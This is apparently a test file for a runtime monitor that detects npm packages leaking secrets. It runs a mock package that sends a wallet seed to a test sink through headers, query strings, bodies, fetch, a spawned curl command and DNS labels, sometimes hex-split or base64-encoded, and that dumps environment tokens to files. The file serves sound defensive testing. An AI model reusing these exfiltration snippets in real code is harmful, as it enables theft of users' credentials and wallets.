import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type FindingLine, VictimApp } from '../support/victim-app.ts';

const SEED = 'sEdTM1uX8pu2do5XvTnutH6HsouMaM2';
const HEX = Buffer.from(SEED).toString('hex');

/* A client that is handed a seed. What it does with it is in the test. */
const client = (send: string): string => `
const http = require('node:http');
const url = (path) => new URL(path, process.env.SINK);
exports.connect = (seed) => new Promise((done) => {
  const hex = Buffer.from(seed).toString('hex');
  const end = (error) => done(error?.code ?? error?.cause?.code ?? 'sent');
  const get = (path, headers) => http.get(url(path), { headers }, (response) => response.resume().on('end', end)).on('error', end);
  ${send}
});`;

const SYNC = `const seed = require('node:fs').readFileSync('secrets/seed.txt', 'utf8').trim();`;

interface Case {
  readonly send: string;
  readonly read?: string;
  readonly env?: NodeJS.ProcessEnv;
  readonly config?: object;
  /** Ends in this, as the client is told. */
  readonly ends?: string;
}

async function carried({ send, read = SYNC, env = {}, config = {}, ends = 'sent' }: Case): Promise<FindingLine[]> {
  await using app = await VictimApp.create();
  app.labels('1.0.1', client(send));
  app.write('secrets/seed.txt', `${SEED}\n`);
  app.write('secrets/wallet.json', JSON.stringify({ address: 'rHb9CJAWyB4rj91VRWn96DkukG4bwdtyTh', seed: SEED }));
  app.write('diogenesis.config.json', JSON.stringify(config));
  app.write(
    'main.js',
    `(async () => { ${read}
      console.log(await require('labels').connect(seed));
    })();`,
  );
  const ran = await app.run(['--require', 'diogenesis-otel/register', 'main.js'], env);
  assert.equal(ran.stdout.trim(), ends, ran.stderr);
  if (ends !== 'sent') assert.deepEqual(app.received, [], 'nothing has left');
  const findings = app.findings();
  assert(!JSON.stringify(findings).includes(SEED), 'nothing of the secret is told');
  for (const half of [HEX.slice(0, 31), HEX.slice(31)]) assert(!JSON.stringify(findings).includes(half));
  assert(!ran.stderr.includes(SEED));
  return findings.filter(({ rule }) => rule.name.startsWith('carried_secret'));
}

async function assertSeen(one: Case, where: string, from = '<app>/secrets/seed.txt'): Promise<void> {
  const findings = await carried(one);
  assert.equal(findings.length, 1, JSON.stringify(findings));
  const [finding] = findings as [FindingLine];
  assert.equal(finding.level, 'WARN');
  assert.equal(finding.pattern, 'data_exfiltration');
  assert.equal(finding.package.name, 'labels');
  assert(finding.reason.includes(`(from ${from}) into ${where} of a request`), finding.reason);
}
const assertQuiet = async (one: Case): Promise<void> => assert.deepEqual(await carried(one), []);

describe('a package sends a secret that the application has handed it', () => {
  it('in a header of http', () => assertSeen({ send: `get('/', { 'ad-referral': seed });` }, 'the header ad-referral'));

  it('in a header of http that is set later', () =>
    assertSeen(
      {
        send: `const request = http.request(url('/'), { method: 'POST' }, (response) => response.resume().on('end', end));
          request.setHeader('X-Trace', hex); request.end('{}');`,
      },
      'the header X-Trace',
    ));

  it('in headers of http that are given as a list', () =>
    assertSeen({ send: `get('/', ['Host', 'localhost', 'X-Trace', seed]);` }, 'the header X-Trace'));

  it('in halves, as hex', () =>
    assertSeen(
      { send: `get('/', { 'x-session-id': hex.slice(0, 31), 'x-amz-cf-id': hex.slice(31) });` },
      'the header x-session-id',
    ));

  it('in the query, and in the path', async () => {
    await assertSeen({ send: `get('/?v=1&id=' + encodeURIComponent(seed));` }, 'the query id');
    await assertSeen({ send: `get('/v1/' + hex + '/balance');` }, 'the path');
  });

  it('in a header, a Headers object, a Request or the query of fetch', async () => {
    const to = (args: string) => ({ send: `fetch(${args}).then(() => end(), end);` });
    await assertSeen(to(`url('/'), { headers: { 'x-trace': seed } }`), 'the header x-trace');
    await assertSeen(to(`url('/'), { headers: new Headers({ 'x-trace': hex }) }`), 'the header x-trace');
    await assertSeen(to(`new Request(url('/'), { headers: [['x-trace', btoa(seed)]] })`), 'the header x-trace');
    await assertSeen(to(`String(url('/?id=' + seed))`), 'the query id');
  });

  it('in a body of http and of fetch, also among other things and encoded', async () => {
    const post = (body: string, more = '') => ({
      send: `const body = ${body};
        const request = http.request(url('/'), { method: 'POST' }, (response) => response.resume().on('end', end));
        ${more || 'request.end(body);'}`,
    });
    const json = `JSON.stringify({ id: 7, note: seed })`;
    await assertSeen(post(json), 'the field note of the body');
    await assertSeen(
      post(json, 'request.write(body.slice(0, 9)); request.end(body.slice(9));'),
      'the field note of the body',
    );
    await assertSeen(post(`Buffer.from(${json}).toString('base64')`), 'the field note of the body');
    const fetched = (body: string) => ({
      send: `fetch(url('/'), { method: 'POST', body: ${body} }).then(() => end(), end);`,
    });
    await assertSeen(fetched(json), 'the field note of the body');
    await assertSeen(fetched(`new URLSearchParams({ note: seed })`), 'the field note of the body');
    await assertSeen(fetched(`Buffer.from('x ' + seed)`), 'the body');
  });

  it('by a program', async () => {
    const run = (call: string) => ({
      send: `const cp = require('node:child_process'); const child = cp.${call}; child.on('error', () => end()); child.on('exit', () => end());`,
    });
    await assertSeen(run(`spawn('curl', ['-s', '-d', seed, String(url('/'))])`), 'the command line');
    await assertSeen(run(`exec('curl -s "' + url('/?ref=' + hex) + '"')`), 'the query ref');
  });

  it('in the labels of a name', () =>
    assertSeen(
      { send: `require('node:dns').resolveTxt(hex.slice(0, 40) + '.0.labels.invalid', () => end());` },
      'a DNS label',
    ));

  it('whichever way the application has read it', async () => {
    const send = `get('/', { 'x-trace': seed });`;
    const fs = `const fs = require('node:fs');`;
    for (const read of [
      `${fs} const seed = (await fs.promises.readFile('secrets/seed.txt', 'utf8')).trim();`,
      `${fs} const seed = await new Promise((done) => fs.readFile('secrets/seed.txt', (_, text) => done(String(text).trim())));`,
      `${fs} let seed = ''; for await (const part of fs.createReadStream('secrets/seed.txt')) seed += part; seed = seed.trim();`,
    ]) {
      await assertSeen({ send, read }, 'the header x-trace');
    }
    for (const read of [
      `const { seed } = require('./secrets/wallet.json');`,
      `const { seed } = (await import('./secrets/wallet.json', { with: { type: 'json' } })).default;`,
    ]) {
      await assertSeen({ send, read }, 'the header x-trace', 'seed in <app>/secrets/wallet.json');
    }
  });

  it('from a variable', () =>
    assertSeen(
      { send: `get('/', { 'x-trace': seed });`, read: 'const seed = process.env.XRPL_SEED;', env: { XRPL_SEED: SEED } },
      'the header x-trace',
      'XRPL_SEED',
    ));

  it('and is stopped before anything is sent, where a WARN blocks', async () => {
    const config = { block: { level: 'WARN' } };
    const env = { DIOGENESIS_MODE: 'block' };
    const ends = 'ERR_DIOGENESIS_BLOCKED';
    for (const send of [
      `get('/', { 'x-trace': seed });`,
      `const request = http.request(url('/')).on('error', end); request.setHeader('x-trace', seed); request.end();`,
      `fetch(url('/'), { headers: { 'x-trace': seed } }).then(() => end(), end);`,
    ]) {
      await assertSeen({ send, config, env, ends }, 'the header x-trace');
    }
    for (const send of [
      `http.request(url('/'), { method: 'POST' }).on('error', end).end(seed);`,
      `fetch(url('/'), { method: 'POST', body: seed }).then(() => end(), end);`,
    ]) {
      await assertSeen({ send, config, env, ends }, 'the body');
    }
  });
});

describe('a package writes the environment into a file', () => {
  const staged = async (write: string): Promise<FindingLine[]> => {
    await using app = await VictimApp.create();
    app.labels('1.0.1', client(`${write} get('/', {});`));
    app.write('main.js', `require('labels').connect('').then(console.log);`);
    const env = {
      NPM_TOKEN: 'npm_0123456789abcdef0123',
      AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    };
    const ran = await app.run(['--require', 'diogenesis-otel/register', 'main.js'], env);
    assert.equal(ran.stdout.trim(), 'sent', ran.stderr);
    return app.findings().filter(({ rule }) => rule.name === 'secrets_staged');
  };
  const fs = `const fs = require('node:fs'), dump = JSON.stringify(process.env);`;

  for (const [how, write] of [
    ['at once', `fs.writeFileSync('state.json', dump);`],
    ['line by line, as base64', `fs.appendFileSync('state.json', Buffer.from(dump).toString('base64') + '\\n');`],
    ['by a promise', `fs.promises.writeFile('state.json', Buffer.from(dump));`],
  ] as const) {
    it(`${how}, and then sends something`, async () => {
      const findings = await staged(fs + write);
      assert.equal(findings.length, 1);
      assert.equal(findings[0]?.level, 'WARN');
      assert.equal(findings[0]?.package.name, 'labels');
      assert.match(
        findings[0]?.reason ?? '',
        /secrets of several services \((?:NPM_TOKEN|AWS_SECRET_ACCESS_KEY) and others\)/,
      );
      assert(!JSON.stringify(findings).includes('0123456789abcdef'));
    });
  }

  it('and one setting of it is none', async () =>
    assert.deepEqual(await staged(`${fs} fs.writeFileSync('.npmrc.local', process.env.NPM_TOKEN);`), []));
});

describe('nothing is said', () => {
  it('of a header, or a part of the query, that is made for a secret', async () => {
    for (const name of ['authorization', 'x-api-key', 'cookie', 'x-vault-token', 'x-client-secret']) {
      await assertQuiet({ send: `get('/', { '${name}': 'Bearer ' + seed });` });
    }
    await assertQuiet({ send: `get('/?apikey=' + seed);` });
  });

  it('of a field of a body that is made for a secret', () =>
    assertQuiet({
      send: `fetch(url('/'), { method: 'POST', body: JSON.stringify({ user: 'bob', password: seed }) }).then(() => end(), end);`,
      read: 'const seed = process.env.SHOP_PASSWORD;',
      env: { SHOP_PASSWORD: SEED },
    }));

  it('of what is no secret, or too short to be told from others', () =>
    assertQuiet({
      send: `get('/ability/?q=' + process.env.STAGE, { 'x-stage': process.env.PASSWORD, 'x-region': process.env.REGION });`,
      env: { PASSWORD: 'production', STAGE: 'production', REGION: 'a-region-with-a-long-name' },
    }));

  it('of what the application itself sends', () =>
    assertQuiet({
      send: 'end();',
      read: `${SYNC} await fetch(process.env.SINK, { headers: { 'x-trace': seed } });
        await new Promise((done) => require('node:http').get(process.env.SINK, { headers: { 'x-trace': seed } }, (r) => r.resume().on('end', done)));`,
    }));
});
